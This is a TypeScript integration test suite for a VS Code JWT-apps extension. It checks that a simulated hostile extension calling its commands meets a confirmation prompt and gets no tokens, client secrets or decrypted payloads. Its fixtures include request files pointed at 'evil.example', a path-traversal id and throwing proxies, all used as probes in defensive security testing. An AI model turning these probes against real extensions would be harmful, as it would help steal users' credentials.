import { strict as assert } from "node:assert";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import * as vscode from "vscode";
import type { JwtApp } from "../../../src/domain/apps/jwtApp";
import { asChecked } from "../../../src/domain/keys/checkedSecret";
import { builtInProfile } from "../../../src/domain/payloads/envelopeProfile";
import type { DecryptReport } from "../../../src/domain/payloads/open/decryptResult";
import { asText } from "../../../src/domain/text/asText";
import { type KeyPair, newKeyPair, payloadApp, seal } from "../../host/envelopes";
import {
  activated,
  base64url,
  claimsOf,
  forgetAll,
  hs256App,
  isSignedWith,
  newSecret,
  saved,
  showTree,
  signedToken,
  until,
} from "../../host/support";
import { restClientResponse } from "../../host/standIns";
import { seen } from "../../until";
import { assertDeclinesFirst, asking, neighbour, type Neighbour } from "./neighbour";

const now = (): number => Math.floor(Date.now() / 1000);

/** What a call of another extension meets before anything happens. */
type Door = "modal" | "pick" | "input" | "dialog" | "nothing";

describe("Another extension", function () {
  const secret = newSecret();
  const anotherSecret = newSecret();
  let app: JwtApp;
  let keyed: JwtApp;
  let keys: KeyPair;
  let hostile: Neighbour;
  let envelope: string;
  let file: vscode.Uri;
  let jwe: string;
  let open: vscode.Uri | undefined;
  /** Decrypted, with a shape that can be kept. */
  let result: string | undefined;

  before(async () => {
    hostile = await neighbour();
    keys = await newKeyPair();
    envelope = JSON.stringify(await seal('{"plain":"TEXT"}', keys));
    file = vscode.Uri.joinPath((await activated()).folder, "../captures/hostile.json");
    await vscode.workspace.fs.writeFile(file, new TextEncoder().encode(envelope));
    jwe = `${base64url(JSON.stringify({ alg: "RSA-OAEP", enc: "A128GCM" }))}.a2V5.aXY.Y2lw.dGFn`;
  });
  beforeEach(async () => {
    await forgetAll();
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    // Nothing that an earlier test allowed counts.
    await vscode.commands.executeCommand("jwtApps.forgetTokens");
    app = await saved(
      hs256App("Mine", {
        botId: "st-b8525f88-6dd3-54a7-9c7b-1a2b3c4d5e6f",
        host: "platform.kore.ai",
        scopes: [{ id: "xo/bot-sessions", published: false }],
        // Only what was assumed can be confirmed.
        algorithmAssumed: true,
      }),
      { clientSecret: anotherSecret },
    );
    const { store } = await activated();
    const secrets = await store.secretsOf(app);
    app = await store.save(app, secrets?.with({ clientSecret: asChecked(secret) }));
    assert.ok(app.hasPreviousSecret);
    keyed = await payloadApp("Keyed", keys);
    await vscode.env.clipboard.writeText("nothing of ours");
  });
  after(async () => {
    await forgetAll();
    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--)
      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
  });

  /** As a person leaves it who has decrypted something, and closed the message. */
  async function offeredShape(): Promise<string> {
    const { documents } = await activated();
    const app = { appId: keyed.id, appName: keyed.name };
    const offer: DecryptReport = {
      ...{
        app,
        ambiguous: false,
        apps: [app],
        format: "jwe",
        start: 0,
        end: 0,
        parts: [],
        cipher: "",
        compression: "none",
      },
      ...{ layers: [], authenticated: true, foundBy: "detection", profile: builtInProfile("shared"), notes: [] },
    };
    const notes = { offer: { report: offer, of: "only" as const }, origins: [] };
    return documents
      .holdResult({
        bytes: new Uint8Array(0),
        extension: "txt",
        appIds: [keyed.id],
        name: asText("x"),
        source: "x",
        notes,
      })
      .toString();
  }

  const token = (changes: object = {}): Promise<string> =>
    signedToken({ appId: app.clientId, sub: "jane", iat: now(), exp: now() + 300, ...changes }, secret);

  /** No token, no secret and no decrypted text, wherever code could read it. */
  async function assertNothingLeft(result: unknown): Promise<void> {
    const clipboard = await vscode.env.clipboard.readText();
    const documents = vscode.workspace.textDocuments.map((document) => document.getText());
    for (const text of [JSON.stringify(result) ?? "", clipboard, ...documents]) {
      assert.doesNotMatch(text, /"plain"\s*:\s*"TEXT"/);
      assert.ok(!text.includes(secret) && !text.includes(anotherSecret));
      for (const [found] of text.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+(?![\w.-])/g))
        assert.ok(!(await isSignedWith(found, secret)), "a token of ours");
    }
  }

  /** Each row: a command with arguments of code, what it meets first, and the first words of a modal question. */
  const rows: readonly (readonly [command: string, argument: () => unknown, door: Door, question?: RegExp])[] = [
    ["jwtApps.mintToken", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    ["jwtApps.copyToken", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    ["jwtApps.copyAuthHeader", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    ["jwtApps.copyAsCurl", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    ["jwtApps.insertToken", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    ["jwtApps.mintTokenWithOptions", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
    [
      "jwtApps.newRequestFile",
      () => ({ app: app.id, endpoint: "sessions-history", use: "line" }),
      "modal",
      /^Make tokens of “Mine”/,
    ],
    [
      "jwtApps.insertRequest",
      () => ({ app: app.id, endpoint: "sessions-history", use: "line" }),
      "modal",
      /^Make tokens of “Mine”/,
    ],
    [
      "jwtApps.refreshToken",
      () => ({
        uri: open?.toString(),
        range: [
          { line: 1, character: 10 },
          { line: 1, character: 10 },
        ],
        send: true,
      }),
      "modal",
      /^(?:Make tokens of|Send a fresh token of) “Mine”/,
    ],
    [
      "jwtApps.useGateway",
      () => ({ uri: open?.toString(), app: app.id }),
      "modal",
      /^(?:Send requests of “|Keep the gateway's address in the environment)/,
    ],
    [
      "jwtApps.useToken",
      () => ({ uri: open?.toString(), use: "line" }),
      "modal",
      /^(?:Write tokens into requests of “|Make tokens of “Mine”)/,
    ],
    [
      "jwtApps.switchApp",
      () => ({ uri: open?.toString(), app: app.id }),
      "modal",
      /^Switch “.*” from “Keyed” to “Mine”\? It changes 1\.$/,
    ],
    ["jwtApps.decryptSelection", () => ({ uri: file.toString() }), "modal", /^Decrypt with the keys of your apps/],
    ["jwtApps.decryptSelection", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
    ["jwtApps.decryptClipboard", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
    ["jwtApps.decryptResponse", () => ({}), "modal", /^Decrypt REST Client's response with the keys of “Keyed”/],
    ["jwtApps.keepEnvelopeShape", () => ({ uri: result }), "modal", /^Keep the shape of this payload for “Keyed”/],
    ["jwtApps.decryptFile", () => ({ file: file.toString() }), "modal", /^Decrypt with the keys of your apps/],
    ["jwtApps.inspectToken", () => ({ token: jwe }), "modal", /^Decrypt with the keys of your apps/],
    ["jwtApps.copyClaims", () => ({ token: jwe }), "modal", /^Decrypt with the keys of your apps/],
    ["jwtApps.exportApps", () => ({}), "modal", /^List your JWT apps/],
    ["jwtApps.exportApps", () => ({ apps: ["Mine"] }), "modal", /^List your JWT apps/],
    ["jwtApps.shareApps", () => ({ apps: ["Mine"] }), "modal", /^Describe 1 app in “.vscode\/jwt-apps.json”/],
    ["jwtApps.copyClientSecret", () => ({ app: app.id }), "modal", /^Copy the client secret of “Mine”/],
    ["jwtApps.deleteApp", () => ({ app: app.id }), "modal", /^Delete the JWT app “Mine”/],
    ["jwtApps.deleteApp", () => ({ apps: [app.id, keyed.name] }), "modal", /^Delete 2 JWT apps/],
    ["jwtApps.forgetEverything", () => ({}), "modal", /^Forget all JWT apps/],
    ["jwtApps.forgetPreviousSecret", () => ({ app: app.id }), "modal", /^Forget the previous client secret of “Mine”/],
    ["jwtApps.startGateway", () => ({ port: 0, apps: [app.id] }), "modal", /^Start the gateway for “Mine”/],
    ["jwtApps.copyGatewayAddress", () => ({ app: app.id }), "modal", /^Give the gateway's address for “Mine”/],
    ["jwtApps.renewGatewayKey", () => ({}), "modal", /^Make a new key for the gateway's address/],
    ["jwtApps.renameApp", () => ({ app: app.id }), "input"],
    ["jwtApps.replaceSecret", () => ({ app: app.id }), "input"],
    ["jwtApps.rotateSecret", () => ({ app: app.id }), "pick"],
    ["jwtApps.enterSecret", () => ({ app: app.id }), "input"],
    ["jwtApps.confirmAlgorithm", () => ({ app: app.id }), "pick"],
  ];

  for (const [command, argument, door, question] of rows) {
    it(`meets a ${door} at ${command.replace("jwtApps.", "")}, ${JSON.stringify(argument.toString().replace(/^\(\) => /, ""))}`, async () => {
      if (command === "jwtApps.insertToken" || command === "jwtApps.insertRequest") await hostile.open("", "http");
      if (command === "jwtApps.refreshToken")
        open = (
          await hostile.open(
            `GET https://evil.example/x\nauth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`,
            "http",
          )
        ).document.uri;
      if (command === "jwtApps.useGateway")
        open = (await hostile.open("GET https://platform.kore.ai/x\nauth: a.b.c\n", "http")).document.uri;
      if (command === "jwtApps.switchApp")
        open = (await hostile.open("# jwt-app: Keyed\nGET https://evil.example/x\n", "http")).document.uri;
      if (command === "jwtApps.useToken")
        open = (await hostile.open(`GET {{gateway}}/${app.slug ?? assert.fail("it has none")}/x\n`, "http")).document
          .uri;
      if (command === "jwtApps.keepEnvelopeShape") result = await offeredShape();
      const response = command === "jwtApps.decryptResponse" ? await restClientResponse(envelope) : undefined;
      const given = argument();
      for (const handed of [given, { ...(given as object), from: "editor" }]) {
        const { asked, modals, result } = await asking(() => hostile.call(command, handed));
        assert.ok(
          asked.length > 0 && (asked[0] === door || (asked[0] === "pick" && "from" in (handed as object))),
          `asked ${asked.join(", ")}`,
        );
        if (question && asked[0] === "modal") assert.match(modals[0]?.message ?? "", question);
        assertDeclinesFirst({ modals });
        await assertNothingLeft(result);
        assert.equal(result, undefined);
      }
      response?.dispose();
      const { store } = await activated();
      assert.deepEqual((await store.apps()).map(({ name }) => name).sort(), ["Keyed", "Mine"]);
      assert.ok((await store.get(app.id))?.hasPreviousSecret);
      assert.equal((await store.get(keyed.id))?.envelopeProfile, undefined);
    });
  }

  /** What asks nothing, as the table says, gives nothing away either. */
  const free: readonly (readonly [command: string, argument: () => unknown])[] = [
    [
      "jwtApps.importApps",
      () => ({ text: JSON.stringify({ format: "jwt-apps-export", version: 1, apps: [hs256App("Imported")] }) }),
    ],
    ["jwtApps.copyClientId", () => ({ app: app.id })],
    ["jwtApps.assignScopes", () => ({ app: app.id, scopes: ["xo/bot-sessions"] })],
    ["jwtApps.publishScopes", () => ({ app: app.id })],
    ["jwtApps.explainError", () => ({ text: '{"errors":[{"msg":"Invalid SDK credentials","code":4002}]}' })],
    ["jwtApps.copyConfiguration", () => ({ app: app.id, use: "botkit" })],
    ["jwtApps.listEncryptingEndpoints", () => ({ app: app.id })],
    ["jwtApps.encryptSelection", () => ({ app: keyed.id })],
    ["jwtApps.copyForLocalPlatform", () => ({ app: app.id })],
    ["jwtApps.forgetEnvelopeProfile", () => ({ app: app.id })],
    ["jwtApps.closeDecrypted", () => ({})],
    ["jwtApps.forgetTokens", () => ({})],
    ["jwtApps.refresh", () => ({})],
    ["jwtApps.stopLocalPlatform", () => ({})],
    ["jwtApps.stopGateway", () => ({})],
    ["jwtApps.removeScope", () => ({ app: { id: app.id }, scopeId: "xo/bot-sessions" })],
    ["jwtApps.copyPublicKey", () => ({ app: { name: "x" }, credential: { publicKey: "x" } })],
    ["jwtApps.openAppFile", () => ({ entry: { id: "../../x" } })],
  ];
  for (const [command, argument] of free) {
    it(`is asked nothing at ${command.replace("jwtApps.", "")}, and gets nothing that is secret`, async () => {
      if (command === "jwtApps.encryptSelection") await hostile.open("text", "plaintext");
      const { asked, result, error } = await asking(() => hostile.call(command, argument()));
      assert.deepEqual([asked, error], [[], undefined]);
      await assertNothingLeft(result);
      const { store } = await activated();
      assert.deepEqual(
        (await store.get(app.id))?.scopes.map(({ id }) => id),
        ["xo/bot-sessions"],
      );
    });
  }

  it("is refused no more once a person allowed it, for that app and kind alone", async () => {
    const first = await asking(() => hostile.call("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
    assert.ok(await isSignedWith((first.result as { token: string }).token, secret));
    assert.deepEqual((await asking(() => hostile.call("jwtApps.mintToken", { app: app.id }))).asked, []);
    assert.deepEqual((await asking(() => hostile.call("jwtApps.mintToken", { app: keyed.id }))).asked, ["modal"]);
    assert.deepEqual((await asking(() => hostile.call("jwtApps.exportApps", {}))).asked, ["modal"]);
    assert.deepEqual((await asking(() => hostile.call("jwtApps.decryptFile", { file: file.toString() }))).asked, [
      "modal",
    ]);
  });

  it("gets the gateway's address neither with its URL nor unasked, and its key nowhere", async () => {
    const { secrets, gateway } = await activated();
    const started = await asking(() => hostile.call("jwtApps.startGateway", { port: 0, apps: [app.id] }), "Start");
    try {
      assert.deepEqual(started.asked, ["modal"]);
      const key = (await secrets.get("gateway/key")) ?? assert.fail("it has none");
      const { url } = started.result as { url: string };
      assert.match(url, /^http:\/\/127\.0\.0\.1:\d+$/);
      for (const [command, argument] of [
        ["startGateway", { apps: [app.id] }],
        ["startGateway", undefined],
        ["copyGatewayAddress", { app: app.id }],
        ["copyGatewayAddress", { app: app.id, from: "editor" }],
        ["copyGatewayAddress", undefined],
        ["renewGatewayKey", {}],
        ["showGatewayActions", {}],
        ["explainGatewayError", { entry: 1 }],
      ] as const) {
        const { result, error, said } = await asking(() => hostile.call(`jwtApps.${command}`, argument));
        assert.ok(!JSON.stringify([result, error?.message, said]).includes(key), command);
      }
      assert.equal(await vscode.env.clipboard.readText(), "nothing of ours");
      assert.equal(await secrets.get("gateway/key"), key);
      assert.deepEqual(gateway.running?.appIds, [app.id]);
      const note = vscode.Uri.joinPath((await activated()).folder, "../gateway/running.json");
      assert.ok(!new TextDecoder().decode(await vscode.workspace.fs.readFile(note)).includes(key));
      // More apps are another question.
      const more = await asking(() => hostile.call("jwtApps.startGateway", { apps: [keyed.id] }));
      assert.ok(more.asked[0] === "modal" || more.error !== undefined);
      assert.deepEqual(gateway.running?.appIds, [app.id]);
    } finally {
      await hostile.call("jwtApps.stopGateway");
    }
  });

  describe("without arguments, as the palette calls", () => {
    it("gets no token in place of an invented one", async () => {
      for (const text of [
        `# jwt-app: Mine\n\n###\nPOST https://platform.kore.ai/x\nauth: ${jwe}\n`,
        `# jwt-app: Mine\n\n${jwe}\n`,
        `auth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`,
      ]) {
        const editor = await hostile.open(text, "http");
        const at = editor.document.positionAt(text.indexOf("eyJ") + 3);
        editor.selection = new vscode.Selection(at, at);
        await until(() => vscode.window.activeTextEditor?.document === editor.document, "the editor is active");
        const { asked, modals } = await asking(() => hostile.call("jwtApps.refreshToken"));
        assert.deepEqual(asked, ["modal"], text);
        assertDeclinesFirst({ modals });
        assert.equal(editor.document.getText(), text);
      }
    });

    it("renews what is ours unasked, in front of the person", async () => {
      const editor = await hostile.open(
        `POST https://platform.kore.ai/api/public/bots\nauth: ${await token({ exp: 1 })}\n`,
        "http",
      );
      editor.selection = new vscode.Selection(1, 10, 1, 10);
      assert.deepEqual((await asking(() => hostile.call("jwtApps.refreshToken"))).asked, []);
      assert.ok(await isSignedWith(editor.document.lineAt(1).text.replace("auth: ", ""), secret));
    });

    it("can't have the quick pick answered before a person could see it, and can later, as SECURITY.md says", async () => {
      const copied = async (): Promise<boolean> =>
        isSignedWith(await vscode.env.clipboard.readText(), secret).catch(() => false);
      await saved(hs256App("A first one"), { clientSecret: secret });
      const start = performance.now();
      let took: number | undefined;
      const call = hostile.call("jwtApps.copyToken").then(() => (took = performance.now() - start));
      while (took === undefined) await hostile.acceptAfter(40);
      await call;
      // However busy the machine is: it was accepted all the time, and taken once half a second was over.
      assert.ok(took >= 500, `answered after ${took} ms`);
      assert.ok(await copied());
      assert.match(readFileSync(join(rootOf(), "SECURITY.md"), "utf8"), /acceptSelectedQuickOpenItem/);
    });

    it("has what stands in the active editor decrypted in front of the person, as SECURITY.md says", async () => {
      const editor = await hostile.open(envelope, "json");
      await until(() => vscode.window.activeTextEditor?.document === editor.document, "the editor is active");
      const { asked, result } = await asking(() => hostile.call("jwtApps.decryptSelection"));
      assert.deepEqual(
        asked.filter((kind) => kind !== "message"),
        [],
      );
      const { uri } = result as { uri: string };
      await until(
        () =>
          vscode.window.tabGroups.all.some(({ tabs }) =>
            tabs.some(({ input }) => input instanceof vscode.TabInputText && input.uri.toString() === uri),
          ),
        "it opens in an editor",
      );
      assert.match(
        readFileSync(join(rootOf(), "SECURITY.md"), "utf8"),
        /A call without arguments, or with what a lens hands out, decrypts what stands in the active editor/,
      );
    });

    it("has every other command ask where it would take or tell something", async () => {
      for (const [command, door] of [
        ["jwtApps.mintToken", "pick"],
        ["jwtApps.copyToken", "pick"],
        ["jwtApps.copyAuthHeader", "pick"],
        ["jwtApps.copyAsCurl", "pick"],
        ["jwtApps.mintTokenWithOptions", "pick"],
        ["jwtApps.newRequestFile", "pick"],
        ["jwtApps.exportApps", "pick"],
        ["jwtApps.copyClientSecret", "pick"],
        ["jwtApps.startGateway", "pick"],
        ["jwtApps.copyGatewayAddress", "pick"],
        ["jwtApps.renewGatewayKey", "modal"],
        ["jwtApps.deleteApp", "pick"],
        ["jwtApps.forgetEverything", "modal"],
        ["jwtApps.forgetPreviousSecret", "pick"],
        ["jwtApps.rotateSecret", "pick"],
        ["jwtApps.decryptFile", "dialog"],
      ] as const) {
        const { asked, result } = await asking(() => hostile.call(command));
        assert.deepEqual(asked, [door], command);
        assert.equal(result, undefined, command);
        await assertNothingLeft(result);
      }
    });
  });

  it("changes nothing by the button of an error message, whatever it offers: each asks, or opens the form", async () => {
    const { store } = await activated();
    const before = JSON.stringify([await store.get(app.id), await store.get(keyed.id)]);
    const doors: Record<string, string[]> = {};
    for (const command of [
      "enterSecret",
      "enterSigningKey",
      "enterPayloadKey",
      "confirmAlgorithm",
      "assignScopes",
      "publishScopes",
    ]) {
      const { asked, result } = await asking(() => hostile.call(`jwtApps.${command}`, { app: app.id, from: "editor" }));
      doors[command] = [...asked];
      assert.equal(result, undefined, command);
      await assertNothingLeft(result);
    }
    assert.deepEqual(doors, {
      enterSecret: ["input"],
      enterSigningKey: [],
      enterPayloadKey: [],
      confirmAlgorithm: ["pick"],
      assignScopes: ["pick"],
      publishScopes: ["modal"],
    });
    assert.equal(JSON.stringify([await store.get(app.id), await store.get(keyed.id)]), before);
  });

  describe("with what lenses and links hand out", () => {
    it("gets from each no more than it gets without, wherever it uses it", async () => {
      const editor = await hostile.open(
        `POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n\n### Captured\nHTTP/1.1 200 OK\n\n${envelope}\n`,
        "http",
      );
      const { document } = editor;
      const handed = [
        ...(await hostile.lenses(document.uri)),
        ...(await hostile.links(document.uri, new vscode.Position(1, 20))),
      ];
      assert.ok(new Set(handed.map(({ command }) => command)).size >= 4, handed.map(({ command }) => command).join());
      for (const {
        arguments: [argument],
      } of handed) {
        assert.ok(!JSON.stringify(argument).includes(await token()), "a token stands in it");
        const { constructor } = argument as { constructor: new (...args: unknown[]) => object };
        for (const made of [
          argument,
          { ...(argument as object), app: app.id },
          new constructor({ app: app.id }),
          Object.assign(Object.create(Object.getPrototypeOf(argument) as object), {
            app: app.id,
            argument: { app: app.id },
          }),
        ]) {
          for (const command of [
            "jwtApps.copyToken",
            "jwtApps.mintToken",
            "jwtApps.copyAsCurl",
            "jwtApps.exportApps",
            "jwtApps.decryptFile",
            "jwtApps.decryptClipboard",
            "jwtApps.startGateway",
            "jwtApps.copyGatewayAddress",
          ]) {
            const { asked, modals, said, result, error } = await asking(() => hostile.call(command, made));
            // What a lens names is no argument of this command's form, or a question is asked.
            assert.ok(
              asked.length > 0 || [...said, error?.message].some((text) => text?.includes("has the wrong type")),
              `${command} asked nothing`,
            );
            assertDeclinesFirst({ modals });
            assert.equal(result, undefined, command);
          }
        }
      }
      assert.equal(await vscode.env.clipboard.readText(), "nothing of ours");
    });

    it("is asked where the document is not the one in front, or another token stands there now", async () => {
      const document = (
        await hostile.open(`POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n`, "http")
      ).document;
      const refresh =
        (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
      const [link] = (await hostile.links(document.uri, new vscode.Position(1, 20))).filter(
        ({ command }) => command === "jwtApps.refreshToken",
      );
      await hostile.open("something else", "plaintext");
      for (const each of [refresh, link ?? assert.fail("no link")]) {
        const { asked, modals } = await asking(() => hostile.call(each.command, ...each.arguments));
        assert.deepEqual(asked, ["modal"]);
        assert.match(modals[0]?.detail ?? "", /the file is not in the editor that you are in/);
      }
      const editor = await vscode.window.showTextDocument(document);
      const other = await token({ sub: "other" });
      await editor.edit((edit) => edit.replace(new vscode.Range(1, 6, 1, 10_000), other));
      const { asked, modals } = await asking(() => hostile.call(refresh.command, ...refresh.arguments));
      assert.deepEqual(asked, ["modal"]);
      assert.match(modals[0]?.detail ?? "", /another token stands there now/);
      assert.equal(document.lineAt(1).text, `auth: ${other}`);
      // And it works where nothing changed: a person's click.
      const fresh =
        (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
      assert.deepEqual((await asking(() => hostile.call(fresh.command, ...fresh.arguments))).asked, []);
      assert.equal(claimsOf(document.lineAt(1).text.replace("auth: ", ""))["sub"], "other");
    });

    it("opens no payload behind the person's back", async () => {
      const document = await vscode.workspace.openTextDocument(file);
      await vscode.window.showTextDocument(document);
      const lens =
        (await hostile.lenses(file)).find(({ command }) => command === "jwtApps.decryptSelection") ??
        assert.fail("no lens");
      await hostile.open("something else", "plaintext");
      const { asked, result } = await asking(() => hostile.call(lens.command, ...lens.arguments));
      assert.deepEqual([asked, result], [["modal"], undefined]);
      await assertNothingLeft(result);
    });
  });

  describe("with a row of the tree, which the workbench hands to any command", () => {
    it("is asked while no person sees the tree", async () => {
      const { view } = await activated();
      await showTree();
      const row = await seen("the workbench hands it over", () => hostile.row("jwtApps.apps", `app:${app.id}`));
      await vscode.commands.executeCommand("workbench.view.explorer");
      await until(() => !view.isVisible, "the tree is out of sight");
      for (const call of [
        () => hostile.call("jwtApps.copyToken", row),
        () => hostile.callWithRow("jwtApps.copyToken", "jwtApps.apps", `app:${app.id}`),
      ]) {
        const { asked, modals } = await asking(call);
        assert.deepEqual(asked, ["modal"]);
        assertDeclinesFirst({ modals });
      }
      assert.equal(await vscode.env.clipboard.readText(), "nothing of ours");
    });
  });

  it("breaks nothing with arguments that are none", async () => {
    const throwing = new Proxy(
      {},
      {
        get: () => {
          throw new Error("caught you");
        },
        has: () => {
          throw new Error("caught you");
        },
        getPrototypeOf: () => {
          throw new Error("caught you");
        },
        ownKeys: () => {
          throw new Error("caught you");
        },
      },
    );
    const changing = {
      get app() {
        return this.asked++ === 0 ? app.id : keyed.id;
      },
      asked: 0,
    };
    const commands = listedCommands();
    const quiet = new Set([
      "jwtApps.startLocalPlatform",
      "jwtApps.showLog",
      "jwtApps.showLocalPlatformLog",
      "jwtApps.showGatewayLog",
      "jwtApps.createSample",
      "jwtApps.createApp",
      "jwtApps.editApp",
    ]);
    for (const command of commands.filter((one) => !quiet.has(one))) {
      for (const argument of [
        throwing,
        0,
        "",
        "x",
        [],
        [{ app: app.id }],
        () => app.id,
        Symbol("x"),
        { app: { toString: () => app.id } },
        { from: "editor", uri: {}, range: [] },
        {
          uri: "command:x",
          range: [
            { line: -1, character: 0 },
            { line: 0, character: 0 },
          ],
        },
        changing,
      ]) {
        const { result, error } = await asking(() => hostile.call(command, argument));
        if (error)
          assert.ok(
            !error.message.includes("caught you") && !error.message.includes(secret),
            `${command}: ${error.message}`,
          );
        await assertNothingLeft(result);
      }
    }
  });

  it("finds each command in the table of CONTRIBUTING.md, with what it meets there", () => {
    const table = new Map(
      readFileSync(join(rootOf(), "CONTRIBUTING.md"), "utf8")
        .split("\n")
        .flatMap((line) => {
          const [, command, , , asks = ""] = /^\| `(jwtApps\.\w+)` \|([^|]*)\|([^|]*)\|([^|]*)\|$/.exec(line) ?? [];
          return command === undefined ? [] : [[command, asks.trim()] as const];
        }),
    );
    const commands = listedCommands();
    assert.deepEqual([...table.keys()].sort(), [...commands].sort());
    for (const [command, , door] of rows)
      assert.ok(
        door === "modal" ? /question/.test(table.get(command) ?? "") : /prompt/.test(table.get(command) ?? ""),
        `${command}: ${table.get(command)}`,
      );
    const asks = new Set([...table].filter(([, words]) => words.startsWith("question")).map(([command]) => command));
    assert.deepEqual(
      [...asks].filter((command) => !rows.some(([one]) => one === command)),
      [],
    );
    for (const [command] of free)
      assert.match(table.get(command) ?? "", /^(?:no question|nothing without a row|adds new ones)/, command);
  });
});

function rootOf(): string {
  return vscode.extensions.getExtension("xo-jwt.jwt-apps")?.extensionPath ?? assert.fail("the extension is not there");
}

/** The commands of the manifest. */
function listedCommands(): string[] {
  const extension = vscode.extensions.getExtension("xo-jwt.jwt-apps");
  assert.ok(extension);
  const { contributes } = extension.packageJSON as { contributes: { commands: { command: string }[] } };
  return contributes.commands.map(({ command }) => command);
}
